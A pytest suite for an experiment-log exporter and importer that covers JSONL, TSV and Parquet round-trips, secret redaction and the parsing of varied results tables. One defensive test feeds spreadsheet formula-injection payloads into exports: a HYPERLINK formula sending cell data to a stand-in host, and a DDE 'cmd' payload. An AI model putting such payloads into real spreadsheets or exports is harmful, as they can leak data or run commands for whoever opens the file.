"""Exports are read by other people's tools, imports come from them."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from autoresearchd.domain.errors import MissingCapability, UsageError
from autoresearchd.report.log_files import (
    Format,
    ImportedLog,
    SessionHead,
    jsonl_lines,
    read_log,
    store_log,
    tsv_lines,
    write,
)
from autoresearchd.store.reader import Reader
from autoresearchd.store.repository import SqlStore
from tests.fakes.stores import open_store

HEAD = SessionHead("Optimize val_bpb", "val_bpb", "minimize")


def record(number: int, status: str | None, metric: float | None, **more: Any) -> dict[str, Any]:
    return {
        "experiment": number,
        "status": status,
        "label": "",
        "metric": metric,
        "metrics": {} if metric is None else {"val_bpb": metric, "peak_vram_mb": 45060.2},
        "description": f"change {number}",
        "asi": {"hypothesis": "h"},
        "commit": f"{number:040x}",
        "confidence": None,
        "started_at": "2026-03-08T20:00:00+00:00",
        "finished_at": "2026-03-08T20:05:00+00:00",
        "segment": 0,
        **more,
    }


def as_records(log: ImportedLog) -> list[dict[str, Any]]:
    return [
        {**asdict(e), "experiment": number, "status": e.status.value, "finished_at": e.at.isoformat()}
        for number, e in enumerate(log.experiments)
    ]


def test_the_json_lines_are_those_of_the_skill() -> None:
    lines = [json.loads(line) for line in jsonl_lines(HEAD, [record(1, "keep", 0.993, confidence=2.5)])]
    assert lines == [
        {"type": "config", "name": "Optimize val_bpb", "metricName": "val_bpb", "metricUnit": "bpb",
         "bestDirection": "lower"},
        {"run": 2, "commit": "0000000", "metric": 0.993, "metrics": {"val_bpb": 0.993, "peak_vram_mb": 45060.2},
         "status": "keep", "description": "change 1", "timestamp": 1773000300, "segment": 0, "confidence": 2.5,
         "asi": {"hypothesis": "h"}, "confirmed": None},
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1", "a=1"]
)
def test_no_words_of_a_model_are_a_formula_in_a_spreadsheet(text: str, tmp_path: Path) -> None:
    head, file = replace(HEAD, metric="-loss"), tmp_path / "results.tsv"
    write(Format.TSV, head, [record(0, "keep", -1.5, description=text)], file)
    cells = file.read_text().replace("\n", "\t").split("\t")
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@")) and cell != "-1.500000"]
    log = read_log(file)
    assert (log.metric, log.experiments[0].metric, log.experiments[0].description) == ("-loss", -1.5, text)


def test_a_keep_that_was_taken_back_takes_none_with_it_that_still_stands(tmp_path: Path) -> None:
    states, file = [True, None, False, None, False], tmp_path / "log.jsonl"
    records = [record(n, "keep", 1.0 - n / 10, confirmed=state) for n, state in enumerate(states)]
    write(Format.JSONL, HEAD, records, file)
    with open_store(tmp_path / "state.db") as store:
        store_log(store, read_log(file))
        [session] = store.sessions()
        assert [e.confirmed for e in store.experiments(session.id)] == states
        assert (session.confirmed_experiment, session.incumbent_experiment) == (0, 3)


def test_what_is_confirmed_is_told_and_comes_back(tmp_path: Path) -> None:
    """A log of another tool does not say it: of its keeps nothing but the baseline is called better."""
    file, other = tmp_path / "log.jsonl", tmp_path / "other.jsonl"
    states = [True, True, False, None]
    records = [record(n, "keep", 1.0 - n / 10, confirmed=state) for n, state in enumerate(states)]
    write(Format.JSONL, HEAD, records, file)
    lines = [json.loads(line) for line in file.read_text("utf-8").splitlines()]
    other.write_text("\n".join(json.dumps({k: v for k, v in x.items() if k != "confirmed"}) for x in lines))
    with open_store(tmp_path / "state.db") as store:
        store_log(store, read_log(file))
        store_log(store, read_log(other))
    with Reader(tmp_path / "state.db") as reader:
        ours, theirs = "imported-log", "imported-other"
        assert [e["confirmed"] for e in reader.experiments(ours)] == states
        assert [e["confirmed"] for e in reader.experiments(theirs)] == [True, None, None, None]
        found = [
            (m["best_experiment"], m["tip"]["experiment"]) for t in (ours, theirs) if (m := reader.status(t)["metric"])
        ]
    assert found == [(1, 3), (0, 3)]


def test_keeps_of_earlier_segments_come_back_as_they_were_and_nothing_as_a_word(tmp_path: Path) -> None:
    """A log of another tool has no confirmations: none of its keeps fell."""
    records = [record(n, "keep", 1.0 - n / 10, segment=int(n > 1), asi={"hypothesis": None}) for n in range(4)]
    write(Format.JSONL, HEAD, records, tmp_path / "log.jsonl")
    with open_store(tmp_path / "state.db") as store:
        store_log(store, read_log(tmp_path / "log.jsonl"))
    with Reader(tmp_path / "state.db") as reader:
        found = reader.experiments("imported-log")
    assert False not in [e["confirmed"] for e in found]
    assert "None" not in [e["asi"].get("hypothesis") for e in found]


@pytest.mark.parametrize("form", Format)
def test_what_a_link_leads_to_is_written_and_the_link_stays(tmp_path: Path, form: Format) -> None:
    """`/dev/stdout` is one: root's export once put a file in its place."""
    if form is Format.PARQUET:
        pytest.importorskip("pyarrow")
    (tmp_path / "log").touch()
    (tmp_path / "link").symlink_to("log")
    write(form, HEAD, [record(1, "keep", 0.5)], tmp_path / "link")
    assert (tmp_path / "link").is_symlink() and (tmp_path / "log").stat().st_size > 0


def test_why_it_was_decided_comes_back(tmp_path: Path) -> None:
    labels = [("keep", ""), ("keep", "simpler"), ("discard", "aborted_early"), ("crash", "oom"), ("crash", "nan_loss")]
    records = [record(n, status, None, label=label) for n, (status, label) in enumerate(labels)]
    write(Format.JSONL, HEAD, records, tmp_path / "log.jsonl")
    assert [(e.status.value, e.label or "") for e in read_log(tmp_path / "log.jsonl").experiments] == labels


@pytest.mark.parametrize("form", [Format.JSONL, Format.PARQUET])
def test_a_value_of_exactly_zero_is_not_taken_for_none(tmp_path: Path, form: Format) -> None:
    if form is Format.PARQUET:
        pytest.importorskip("pyarrow")
    records = [record(0, "keep", 0.5), record(1, "discard", 0.0), record(2, "crash", None)]
    write(form, HEAD, records, tmp_path / f"log.{form}")
    assert [e.metric for e in read_log(tmp_path / f"log.{form}").experiments] == [0.5, 0.0, None]


def test_what_has_no_time_has_that_of_its_neighbour_or_of_its_file(tmp_path: Path) -> None:
    """Not 1970, when nobody researched by model."""
    file = tmp_path / "log.jsonl"
    lines = [{"run": n, "metric": 1.0, "status": "keep", "timestamp": at} for n, at in enumerate((0, 1773000300, None))]
    file.write_text("\n".join(map(json.dumps, lines)))
    assert {e.at.timestamp() for e in read_log(file).experiments} == {1773000300.0}
    file.write_text(json.dumps(lines[0]))
    os.utime(file, (1772000000, 1772000000))
    with open_store(tmp_path / "state.db") as store:
        store_log(store, read_log(file))
    with Reader(tmp_path / "state.db") as reader:
        [session] = reader.sessions()
        assert {session.started_at.timestamp(), reader.heartbeat(session.tag).timestamp()} == {1772000000.0}


def test_a_segment_with_another_metric_is_told_of(tmp_path: Path) -> None:
    file, run = tmp_path / "log.jsonl", '{"run":1,"metric":1,"status":"keep"}\n'
    first = '{"type":"config","metricName":"loss","bestDirection":"lower"}\n'
    other = '{"type":"config","metricName":"speed","bestDirection":"higher"}\n'
    file.write_text(first + run + first + run + other + run)
    log = read_log(file)
    assert (log.metric, log.direction, [e.segment for e in log.experiments]) == ("loss", "minimize", [0, 1, 2])
    [warning] = log.warnings
    assert ":5: what follows measures speed (higher is better), and is taken for loss (lower is better)" in warning


def test_an_import_that_is_cut_off_leaves_nothing(tmp_path: Path) -> None:
    file = tmp_path / "log.jsonl"
    write(Format.JSONL, HEAD, [record(n, "keep", 1.0 - n / 10, confirmed=True) for n in range(3)], file)
    with open_store(tmp_path / "state.db") as store:
        log = read_log(file)
        log.experiments[2] = replace(log.experiments[2], metric="no figure")  # type: ignore[arg-type]
        with pytest.raises(Exception, match=r"no figure|unsupported operand"):
            store_log(store, log)
        assert not store.sessions()
        assert "3 experiments" in store_log(store, read_log(file))
        assert [session.tag for session in store.sessions()] == ["imported-log"]


def test_an_import_is_there_as_a_whole_or_not_at_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever kills it on its way must not find a part of the log that looks like all of it."""
    file, seen, ends = tmp_path / "log.jsonl", list[list[Any]](), SqlStore.set_state
    write(Format.JSONL, HEAD, [record(n, "keep", 1.0 - n / 10, confirmed=True) for n in range(3)], file)

    def looked_at(store: SqlStore, *args: Any, **more: Any) -> None:
        with Reader(tmp_path / "state.db") as reader:
            seen.append([row.tag for row in reader.sessions()])
        ends(store, *args, **more)

    monkeypatch.setattr(SqlStore, "set_state", looked_at)
    with open_store(tmp_path / "state.db") as store:
        store_log(store, read_log(file))
        assert seen == [[]]
        assert len(store.experiments(store.session("imported-log").id)) == 3


def test_whoever_imports_the_same_log_again_is_told_where_it_is_already(tmp_path: Path) -> None:
    file = tmp_path / "log.jsonl"
    write(Format.JSONL, HEAD, [record(0, "keep", 1.0)], file)
    with open_store(tmp_path / "state.db") as store:
        assert "already" not in store_log(store, read_log(file))
        told = store_log(store, read_log(file))
        assert "session imported-log is the same already" in told and "sessions remove imported-log-2`" in told
        write(Format.JSONL, HEAD, [record(0, "keep", 1.0), record(1, "keep", 0.9)], file)
        assert "already" not in store_log(store, read_log(file)), "it has grown since"


def test_no_secret_of_a_log_is_stored(tmp_path: Path) -> None:
    file, secret, commit = tmp_path / "log.jsonl", "hf_" + "aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA2b", "7f2a65c0" * 5
    config = {"type": "config", "name": f"n {secret}", "metricName": secret}
    runs = [{"run": n, "commit": c, "metric": 1, "status": "keep"} for n, c in enumerate((secret, commit), 1)]
    file.write_text("\n".join(map(json.dumps, [config, *runs])))
    with open_store(tmp_path / "state.db") as store:
        store_log(store, read_log(file))
        [session] = store.sessions()
        assert secret not in repr([session, *store.experiments(session.id)])
        assert "redacted:" in session.task_json and session.incumbent == commit


def test_a_log_of_something_else_has_few_warnings_and_their_count(tmp_path: Path) -> None:
    file = tmp_path / "training.jsonl"
    lines = ['{"run":1,"metric":1,"status":"keep"}', *(f"step {n} loss 2.0" for n in range(500))]
    file.write_text("\n".join([*lines, json.dumps({"status": "x" * 100_000})]))
    log = read_log(file)
    assert (len(log.warnings), log.warned) == (10, 501)
    with open_store(tmp_path / "state.db") as store:
        assert store_log(store, log).endswith("… and 491 lines more")


def test_a_table_without_its_header_is_not_called_json(tmp_path: Path) -> None:
    (file := tmp_path / "c.tsv").write_text("a\tb\n1\t2\n")
    with pytest.raises(UsageError, match=r"c\.tsv:1: no header of a table: it names no column status"):
        read_log(file, metric="b")


def test_a_line_that_is_too_long_is_called_so_and_counts_as_one(tmp_path: Path) -> None:
    file, run = tmp_path / "log.jsonl", '{"run":1,"metric":1,"status":"keep"}'
    file.write_text("\n".join([run, json.dumps({"status": "x" * 9_000_000}), run, "no", run]))
    log = read_log(file)
    assert [words.split(":")[1] for words in log.warnings] == ["2", "4"], log.warnings
    assert "longer than 4,194,304 characters" in log.warnings[0] and "not JSON" in log.warnings[1]


def test_an_export_that_fails_leaves_the_file_that_was_there(tmp_path: Path) -> None:
    def records() -> Iterator[dict[str, Any]]:
        yield record(0, "keep", 1.0)
        raise KeyError("the session was removed meanwhile")

    file = tmp_path / "log.jsonl"
    file.write_text("of yesterday")
    with pytest.raises(KeyError):
        write(Format.JSONL, HEAD, records(), file)
    assert file.read_text() == "of yesterday" and [*tmp_path.iterdir()] == [file]


def test_a_table_of_small_figures_has_them() -> None:
    rows = list(tsv_lines(HEAD, [record(0, "keep", 3.25e-8), record(1, "discard", 0.0)]))[1:]
    assert [row.split("\t")[1] for row in rows] == ["3.25e-08", "0.000000"]


def test_the_columns_are_karpathys() -> None:
    records = [
        record(0, "keep", 0.9979),
        record(1, "discard", 0.9981, description="a\ttab\nand \x1b[31mmore"),
        record(2, "crash", None),
        record(3, "checks_failed", 0.1),
        record(4, None, None),
    ]
    assert list(tsv_lines(HEAD, records)) == [
        "commit\tval_bpb\tmemory_gb\tstatus\tdescription",
        "0000000\t0.997900\t44.0\tkeep\tchange 0",
        "0000000\t0.998100\t44.0\tdiscard\ta tab and more",
        "0000000\t0.000000\t0.0\tcrash\tchange 2",
        "0000000\t0.000000\t0.0\tcrash\tchange 3",
    ]


@pytest.mark.parametrize("metric", ["tokens_per_sec", "n_errors", "peak_vram_mb"])
def test_a_table_of_ours_is_read_whatever_its_metric_is_called_and_says_what_it_guessed(
    tmp_path: Path, metric: str
) -> None:
    file = tmp_path / "results.tsv"
    file.write_text("\n".join(tsv_lines(replace(HEAD, metric=metric), [record(0, "keep", 3.5)])) + "\n")
    read = read_log(file)
    assert (read.metric, read.experiments[0].metric) == (metric, 3.5)
    assert "--direction maximize says otherwise" in read.warnings[-1]


@pytest.mark.parametrize(
    ("rows", "direction", "told"),
    [
        ([("keep", 1000.0), ("discard", 800.0)], "maximize", "discarded mostly has a lower"),
        ([("keep", 1.0), ("discard", 1.2), ("discard", 0.9), ("discard", 1.1)], "minimize", ""),
        ([("keep", 5.0), ("discard", 4.0), ("keep", 4.5)], "minimize", ""),
        ([("discard", 4.0), ("keep", 5.0)], "minimize", "nothing tells"),
    ],
)
def test_where_no_keep_tells_which_way_is_better_the_discards_do(
    tmp_path: Path, rows: list[tuple[str, float]], direction: str, told: str
) -> None:
    file = tmp_path / "results.tsv"
    lines = tsv_lines(HEAD, [record(number, *row) for number, row in enumerate(rows)])
    file.write_text("\n".join(lines) + "\n")
    read = read_log(file)
    assert read.direction == direction
    assert told in "".join(read.warnings) and len(read.warnings) == bool(told)


texts = st.text(max_size=30)
numbers = st.floats(allow_nan=False, allow_infinity=False)
records_strategy = st.lists(
    st.fixed_dictionaries(
        {
            "status": st.sampled_from(["keep", "discard", "crash", "checks_failed"]),
            "metric": numbers.filter(bool),
            "description": texts,
            "asi": st.dictionaries(texts, texts, max_size=3),
            "metrics": st.dictionaries(st.from_regex(r"[a-z][a-z0-9_]{0,9}", fullmatch=True), numbers, max_size=3),
            "grow": st.booleans(),
        }
    ),
    min_size=1,
    max_size=8,
)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=60)
@given(drawn=records_strategy)
def test_json_lines_come_back_as_they_went(tmp_path: Path, drawn: list[dict[str, Any]]) -> None:
    segment, records = 0, []
    for number, fields in enumerate(drawn):
        segment += 1 if fields.pop("grow") and number else 0
        metric = None if fields["status"] == "crash" else fields["metric"]
        records.append(record(number, None, None, segment=segment) | fields | {"metric": metric})
    file = tmp_path / "log.jsonl"
    write(Format.JSONL, HEAD, records, file)
    log = read_log(file)
    assert (log.metric, log.direction, log.name, log.warnings) == ("val_bpb", "minimize", "Optimize val_bpb", [])
    assert [e.metric for e in log.experiments] == [r["metric"] for r in records]
    assert list(jsonl_lines(HEAD, as_records(log))) == file.read_text("utf-8").split("\n")[:-1]


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=100)
@given(st.lists(st.one_of(st.binary(max_size=60), st.sampled_from([b"{}", b"[1]", b"null", b'{"type":"config"}']))))
def test_no_file_breaks_the_import(tmp_path: Path, lines: list[bytes]) -> None:
    file = tmp_path / "log.jsonl"
    file.write_bytes(b"\n".join(lines))
    with pytest.raises(UsageError):
        read_log(file)


def test_an_unknown_status_is_never_taken_for_a_keep(tmp_path: Path) -> None:
    file = tmp_path / "log.jsonl"
    file.write_text('{"run":1,"metric":1,"status":"keep"}\n{"run":2,"metric":0.1,"status":"great"}\n')
    log = read_log(file)
    assert [e.metric for e in log.experiments] == [1.0]
    assert "great" in log.warnings[0]


def test_a_keep_without_a_value_is_a_crash(tmp_path: Path) -> None:
    file = tmp_path / "results.tsv"
    row = "abc\t{}\t1\tkeep\tidea\n"
    cells = (1.0, "nan", "inf", "banana")
    file.write_text("commit\tval_bpb\tmemory_gb\tstatus\tdescription\n" + "".join(map(row.format, cells)))
    log = read_log(file)
    found = [(e.status.value, e.metric) for e in log.experiments]
    assert found == [("keep", 1.0), *[("crash", None)] * 3]  # a keep would be exported with 0, which looks best
    told = [f"{file}:{n}: a keep whose val_bpb is no finite number, taken for a crash" for n in (3, 4, 5)]
    assert log.warnings[:-1] == told


@pytest.mark.parametrize(
    ("cells", "values"),
    [
        (("1.0 (±0.01)", "0.9*", ".8 ± 0.01", "7e-1 +/- 1e-2 [2 seeds]"), [1.0, 0.9, 0.8, 0.7]),
        (("1,234.5", "1,234,567", "-1,000.5*"), [1234.5, 1234567.0, -1000.5]),
        (("1.2 s", "1.1s (best)", "900 ms", "0.9", "0.8 ± 0.1 s"), [1.2, 1.1, None, None, 0.8]),
        (("93%", "94.5 %"), [93.0, 94.5]),
        (("2", "1,5", "1,234", "1.234,5", "1-2", "1.2.3", "3 of 5", "12:30", "1k"), [2.0, *[None] * 8]),
    ],
)
def test_a_keep_is_one_with_more_than_a_plain_number_unless_that_may_mean_another(
    tmp_path: Path, cells: tuple[str, ...], values: list[float | None]
) -> None:
    file = tmp_path / "results.tsv"
    file.write_text("commit\tval_bpb\tstatus\n" + "".join(f"a\t{cell}\tkeep\n" for cell in cells))
    log = read_log(file, metric="val_bpb", direction="minimize")
    assert [e.metric for e in log.experiments] == values
    assert len(log.warnings) == values.count(None)


def test_karpathys_table_is_read(tmp_path: Path) -> None:
    file = tmp_path / "results.tsv"
    file.write_text(
        "commit\tval_bpb\tmemory_gb\tstatus\tdescription\n"
        "baseline\t0.997900\t44.0\tkeep\tbaseline\n"
        "bea057b\t0.986041\t43.9\tkeep\thalve batch 524K to 262K (more steps in 5 min)\n"
        "7f2a65c\t0.000000\t0.0\tcrash\tbatch 131K\n"
        "broken line\n"
    )
    log = read_log(file)
    assert (log.metric, log.direction) == ("val_bpb", "minimize")
    assert [(e.commit, e.metric, e.status.value) for e in log.experiments] == [
        ("", 0.9979, "keep"),
        ("bea057b", 0.986041, "keep"),
        ("7f2a65c", None, "crash"),
    ]
    assert log.experiments[1].metrics == {"peak_vram_mb": pytest.approx(44953.6)}
    assert log.warnings == [f"{file}:5: not the columns commit val_bpb memory_gb status description, passed over"]


FORKS: dict[str, Any] = {  # as they are found in the wild, with what is to be read of them
    "size": (
        "commit\tval_bpb\tsize_bytes\tsize_ok\tstatus\tparam_changes\tdescription\n"
        "a1\t1.2\t15990719\tTrue\tkeep\t{}\tbaseline\n"
        "b2\t1.1\t16001408\tFalse\tsize_blocked\t{\"d\": 9}\tdepth 9\n"
        "c3\tnan\t0\tTrue\tgreat\t\tnobody knows\n",
        ("val_bpb", "minimize"), [("keep", 1.2, ""), ("discard", 1.1, "size_blocked")],
    ),
    "four": (
        "iteration\tcommit\taccuracy\tstatus\n0\ta1\t0.90\tbaseline\n1\tb2\t0.93\tkept\n2\tc3\t0.91\treverted\n",
        ("accuracy", "maximize"), [("keep", 0.9, ""), ("keep", 0.93, ""), ("discard", 0.91, "")],
    ),
    "agents": (
        "exp_id\ttimestamp\tspecialist\tparent_exp\thypothesis\texpected_delta\tstatus\ttrain_s\taccuracy\tn_seeds\n"
        "000\t2026-05-01T03:55:39Z\tbaseline\t\tseed\t0\tbaseline\t26.1\t0.94\t10\n"
        "001\t2026-05-01T04:20:59Z\topt\t000\tfewer epochs\t-0.4\tdisqualified\t24.0\t0.93\t10\n"
        "002\t2026-05-01T04:30:59Z\topt\t000\tlarger batch\t-0.4\teval_budget_overrun\t\t\t\n",
        ("accuracy", "minimize"), [("keep", 0.94, ""), ("checks_failed", 0.93, ""), ("crash", None, "budget_overrun")],
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", FORKS)
def test_a_forks_table_is_read_by_its_header_and_comes_back(tmp_path: Path, name: str) -> None:
    text, head, expected = FORKS[name]
    file, again = tmp_path / "results.tsv", tmp_path / "again.jsonl"
    file.write_text(text)
    log = read_log(file)
    assert (log.metric, log.direction) == head
    assert [(e.status.value, e.metric, e.label or "") for e in log.experiments] == expected
    if name == "size":
        assert log.experiments[1].metrics == {"size_bytes": 16001408.0} and "great" in log.warnings[0]
        assert log.experiments[1].asi == {"size_ok": "False", "param_changes": '{"d": 9}'}
    if name == "agents":
        assert log.experiments[1].description == "fewer epochs" and log.experiments[1].asi["specialist"] == "opt"
        assert log.experiments[1].at.isoformat() == "2026-05-01T04:20:59+00:00"
    write(Format.JSONL, SessionHead("t", *head), as_records(log), again)
    assert [(e.status, e.metric, e.metrics, e.asi) for e in read_log(again).experiments] == [
        (e.status, e.metric, e.metrics, e.asi) for e in log.experiments
    ]


@pytest.mark.parametrize(
    ("columns", "metric"),
    [
        ("training_seconds val_bpb", "val_bpb"),
        ("num_steps grad_accum train_loss val_loss", "val_loss"),
        ("params_m mfu depth test_acc", "test_acc"),
        ("bf16 train_loss", "train_loss"),
        ("time_s val_seconds f1", "f1"),
        ("step_time throughput", "throughput"),
        ("time_us peak_memory_mb", "time_us"),
    ],
)
def test_a_table_is_compared_by_what_is_named_like_a_metric_and_that_is_told(
    tmp_path: Path, columns: str, metric: str
) -> None:
    file, names = tmp_path / "results.tsv", columns.split()
    rows = [["commit", *names, "status"], *(["a", *[str(n)] * len(names), "keep"] for n in (3, 2))]
    file.write_text("\n".join(map("\t".join, rows)))
    log = read_log(file)
    assert (log.metric, log.warnings) == (metric, [f"{file}: compared by {metric} (--metric NAME says otherwise)"])


def test_a_table_whose_metric_is_not_the_likeliest_is_read_as_its_owner_says(tmp_path: Path) -> None:
    file, log = tmp_path / "results.tsv", tmp_path / "log.jsonl"
    file.write_text(FORKS["agents"][0])
    read = read_log(file, metric="train_s", direction="maximize")
    assert (read.metric, read.direction, read.experiments[0].metric) == ("train_s", "maximize", 26.1)
    assert read.experiments[0].metrics["accuracy"] == 0.94 and "compared by" not in "".join(read.warnings)
    with pytest.raises(UsageError, match="no column 'loss'"):
        read_log(file, metric="loss")
    file.write_text("commit\tnote\tstatus\na1\tfine\tkeep\n")
    with pytest.raises(UsageError, match="no column of figures"):
        read_log(file)
    log.write_text('{"run":1,"metric":1,"status":"keep"}\n')
    with pytest.raises(UsageError, match="is no table"):
        read_log(log, direction="maximize")


def test_parquet_says_what_it_lacks_or_holds_every_experiment(tmp_path: Path) -> None:
    file = tmp_path / "experiments.parquet"
    try:
        import pyarrow
        import pyarrow.parquet as parquet
    except ImportError:
        with pytest.raises(MissingCapability, match="pyarrow"):
            write(Format.PARQUET, HEAD, [record(0, "keep", 1.0)], file)
        return
    records = [record(0, "keep", 1.0, confirmed=True), record(1, "crash", None, label="oom", segment=1)]
    write(Format.PARQUET, SessionHead("task", "speed", "maximize"), records, file)
    rows = parquet.read_table(file).to_pylist()
    assert [(row["experiment"], row["metric"], row["status"]) for row in rows] == [(0, 1.0, "keep"), (1, None, "crash")]
    log = read_log(file)
    assert (log.name, log.metric, log.direction) == ("task", "speed", "maximize")
    back = [(e.status, e.metric, e.label, e.segment, e.confirmed, dict(e.metrics), e.asi) for e in log.experiments]
    assert back == [
        ("keep", 1.0, None, 0, True, records[0]["metrics"], {"hypothesis": "h"}),
        ("crash", None, "oom", 1, None, {}, {"hypothesis": "h"}),
    ]
    with pytest.raises(UsageError, match="says itself what its metric is"):
        read_log(file, direction="minimize")
    parquet.write_table(parquet.read_table(file).replace_schema_metadata({}), file)
    theirs = read_log(file, metric="speed", direction="maximize")
    assert (theirs.metric, theirs.direction) == ("speed", "maximize"), "a copy that another program wrote says nothing"
    for broken in (b"PAR1 no", b""):
        file.write_bytes(broken)
        with pytest.raises(UsageError, match="cannot be read as Parquet"):
            read_log(file)
    parquet.write_table(pyarrow.table({"a": [1]}), file)
    with pytest.raises(UsageError, match="no export of experiments"):
        read_log(file)
